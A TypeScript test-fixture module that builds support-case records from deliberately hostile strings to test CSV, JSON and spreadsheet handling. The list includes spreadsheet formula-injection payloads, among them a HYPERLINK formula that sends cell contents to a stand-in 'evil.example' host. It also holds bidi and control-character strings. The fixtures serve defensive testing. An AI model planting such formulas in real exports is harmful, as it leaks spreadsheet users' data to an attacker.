// Test-only helpers (imported by *.test.ts files, never by app code).
import { makeCase, T0 } from '../workflow/testing';
import type { Case } from '../domain/case';

export { makeCase, T0 };

/** Strings that break naive CSV/JSON handling or spreadsheets. */
export const HOSTILE_TEXTS: readonly string[] = [
  'She said "this is "fine"" and left',
  'line one\nline two\r\nline three\rline four',
  'a, b, c,,,',
  '=HYPERLINK("http://evil.example/steal?c="&A1, "Click for refund")',
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1:A3)',
  '\t=1+1',
  '\r=1+1',
  'مرحبا، طلبي لم يصل منذ أسبوع \u202Bمتأخر\u202C',
  'שלום, ההזמנה שלי 12345 לא הגיעה',
  '👩🏽‍💻 my order 📦 never came 😡🇺🇸',
  '',
  ' leading and trailing space ',
  '\u0000\u0007control\u001Fchars',
  'x'.repeat(10_000),
];

/** Cases covering every hostile text, status and optional field. */
export function hostileCases(): Case[] {
  return HOSTILE_TEXTS.map((text, i) =>
    makeCase(i, {
      post: { ...makeCase(i).post, text, authorName: HOSTILE_TEXTS[(i + 3) % HOSTILE_TEXTS.length]?.slice(0, 200) ?? '' },
      ...(i % 4 === 0 ? { status: 'closed' as const, outcome: 'spam' as const, closedAt: T0 + i } : {}),
      ...(i % 4 === 1 ? { status: 'responded' as const, firstResponseAt: T0 + i, priority: 'P1' as const } : {}),
      ...(i % 4 === 2 ? { followUpAt: T0 + 3_600_000, notified: { nearing: T0 + 1 } } : {}),
    }),
  ).map((c, i) => ({
    ...c,
    ...(i % 3 === 0 ? { tags: ['refund', HOSTILE_TEXTS[i]?.slice(0, 40).trim() || 'blank'] } : {}),
    ...(i % 2 === 0
      ? { notes: [{ id: `n${i}`, text: HOSTILE_TEXTS[(i + 1) % HOSTILE_TEXTS.length]?.slice(0, 5_000) ?? '', createdAt: T0 + i }] }
      : {}),
  }));
}
